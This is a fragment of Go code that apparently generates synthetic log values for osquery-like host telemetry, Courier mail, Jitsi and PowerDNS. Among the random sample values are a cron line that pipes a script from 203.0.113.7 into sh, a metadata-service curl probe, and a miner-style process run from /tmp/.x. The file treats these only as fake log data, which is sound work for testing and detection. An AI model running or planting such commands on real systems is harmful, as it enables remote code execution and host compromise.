			`{"launcher_identifier":"`+g.value("uuid")+`"}`, `{"hostname":"`+g.pick("web-01", "db-2", "laptop-alice")+`","os_version":"`+g.pick("22.04", "12", "14.5")+`"}`), true
	case "x12qcmdline":
		return g.pick("/usr/sbin/sshd -D", "nginx: worker process", "/usr/bin/python3 /opt/app/worker.py --queue=default", "bash", "curl -s http://169.254.169.254/latest/meta-data/", "/bin/sh -c /tmp/.x/kdevtmpfsi", ""), true
	case "x12qproc":
		return g.pick("sshd", "nginx", "python3", "bash", "curl", "kdevtmpfsi", "containerd-shim"), true
	case "x12qpath":
		return g.pick("/usr/sbin/sshd", "/usr/sbin/nginx", "/usr/bin/python3.10", "/usr/bin/bash", "/usr/bin/curl", "/tmp/.x/kdevtmpfsi", ""), true
	case "x12quid":
		return strconv.Itoa(g.pickInt(0, 0, 33, 101, 1000, 1001, 65534)), true
	case "x12qaction":
		return g.pick("added", "added", "added", "removed"), true
	case "x12qmd5":
		return g.pick(g.hexN(32), ""), true
	case "x12qfile":
		return g.pick("/etc/passwd", "/etc/shadow", "/etc/ssh/sshd_config", "/usr/bin/sudo", "/home/alice/.ssh/authorized_keys", "/etc/cron.d/backup"), true
	case "x12qcron":
		return g.pick("root cd / && run-parts --report /etc/cron.hourly", "/usr/local/bin/backup.sh > /dev/null 2>&1", "curl -fsSL http://203.0.113.7/x.sh | sh", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"), true
	case "x12qhex":
		return fmt.Sprintf("0xffffffffc%07x", r.IntN(0xfffffff)), true
	case "x12qtty":
		return g.pick("pts/"+strconv.Itoa(r.IntN(9)), "tty1", "pts/"+strconv.Itoa(r.IntN(9)), "console"), true
	case "x12qhome":
		return g.pick("/home/"+g.pick(users...), "/root", "/var/lib/postgresql", "/nonexistent"), true

	// Courier
	case "x12cid":
		return fmt.Sprintf("%08X.%08X.%08X", r.Uint32(), 0x67000000+r.IntN(0xffffff), r.IntN(0x10000)), true
	case "x12chelo":
		return g.pick("localhost", "mail.example.org", "smtp.gmail.com", "mx.partner.example", "unknown"), true
	case "x12cip":
		return "::ffff:" + g.value("ip"), true
	case "x12caddr":
		return g.pick(g.pick(users...)+"@example.com", g.pick(users...)+"@mail.example.org", "", "MAILER-DAEMON", "info@shop.example", "noreply@github.com"), true
	case "x12chost":
		return g.pick("example.com", "gmail.com", "mail.example.org", "localhost", "partner.example"), true
	case "x12csmtperr":
		return g.pick("550 User unknown.", "513 Relaying denied.", "517-SPF fail: 203.0.113.9 is not allowed to send mail for example.com", "451 4.7.1 Greylisted, please try again later", "550 Mail rejected: spam detected"), true
	case "x12cuser":
		return g.pick(users...) + g.pick("", "", "@example.com"), true

	// Jitsi Videobridge
	case "x12jconf":
		return g.hexN(16), true
	case "x12jroom":
		return g.pick("test", "standup", "rocketchat67ffc1252d76fbf0bee845a7", "weekly-sync", "board") + "@" + g.pick("conference.meet.jitsi", "muc.meet.jitsi", "conference.example.org"), true
	case "x12jmeet":
		return g.hexN(8), true
	case "x12jep":
		return g.hexN(8), true
	case "x12jdomain":
		return g.pick("meet.jitsi", "example.org", "jitsi.example.com"), true
	case "x12jres":
		return g.base36(12), true
	case "x12jiqid":
		return g.base36(40), true
	case "x12jhist":
		n := 1 + r.IntN(4)
		s := make([]string, n)
		for i := range s {
			s[i] = g.hexN(8)
		}
		return strings.Join(s, ", "), true
	case "x12jufrag":
		return g.base36(g.pickInt(4, 14)), true
	case "x12jice":
		return g.pick("Waiting", "Running", "Completed", "Terminated", "Failed"), true

	// PowerDNS
	case "x12pts":
		return fmt.Sprintf("%d.%03d", 1765000000+r.IntN(3000000), r.IntN(1000)), true
	case "x12pecs":
		return fmt.Sprintf("%d.%d.%d.0/24", 10+r.IntN(200), r.IntN(256), r.IntN(256)), true
	case "x12pqname":
		return g.pick("example.com", "www.example.org", "google.com", "api.github.com", "_dmarc.example.net", "1.0.0.10.in-addr.arpa", "cdn.example.net", "xn--bcher-kva.example"), true
	case "x12pqtype":
		return g.pick("A", "A", "A", "AAAA", "AAAA", "MX", "TXT", "PTR", "NS", "HTTPS", "SRV", "DS", "DNSKEY"), true
	case "x12pserver":
		return g.value("ip") + ":53", true
	case "x12pms":
		return strconv.FormatFloat(r.Float64()*400, 'f', 6, 64), true
	case "x12ppct":
		return strconv.Itoa(r.IntN(100)), true
	}
	return "", false
}
